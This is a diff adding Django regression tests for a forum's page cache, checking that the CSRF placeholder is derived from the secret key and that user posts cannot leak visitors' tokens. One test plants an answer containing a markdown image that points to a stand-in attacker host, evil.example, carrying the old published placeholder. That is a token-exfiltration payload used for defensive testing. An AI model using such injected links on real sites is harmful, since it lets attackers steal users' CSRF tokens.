@@ -8,6 +8,7 @@ from django.contrib.contenttypes.models import ContentType
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
+from django.utils.crypto import salted_hmac
 
 from config.pagecache import CSRF_PLACEHOLDER, LocalSnapshots, local_snapshots, site_generation_bump
 from forum.models import Answer, Question
@@ -98,6 +99,30 @@ def test_every_visitor_gets_their_own_working_csrf_token_from_a_cached_page(ques
         {"language": "ru", "next": "/", "csrfmiddlewaretoken": _token(first_html)[:10]},
     )
     assert refused.status_code == 403
+
+
+# The placeholder this project used before it was derived from the secret key: public in the
+# repository's history, so anyone could write it into a post.
+PUBLISHED_PLACEHOLDER = "veche0csrf0placeholder0a61d9c47e2b35f8"
+
+
+def test_the_placeholder_comes_from_the_secret_key():
+    expected = salted_hmac("veche.pagecache.csrf-placeholder", "1").hexdigest()[:40]
+    assert CSRF_PLACEHOLDER == "csrfph" + expected
+    assert CSRF_PLACEHOLDER != PUBLISHED_PLACEHOLDER
+
+
+def test_text_that_looks_like_the_placeholder_never_receives_a_visitors_token(question):
+    """A post cannot make the cache put each reader's CSRF token into its own link."""
+    AnswerFactory(
+        question=question, body=f"![chart](https://evil.example/c?t={PUBLISHED_PLACEHOLDER})"
+    )
+    for reader in (Client(), Client()):  # the second is served from the cache
+        html = reader.get(question.get_absolute_url()).content.decode()
+        token = reader.cookies["csrftoken"].value
+        assert f"https://evil.example/c?t={PUBLISHED_PLACEHOLDER}" in html
+        assert f"evil.example/c?t={token}" not in html
+        assert CSRF_PLACEHOLDER not in html
 
 
 def test_signed_in_members_never_get_or_fill_the_visitors_cache(question, member):
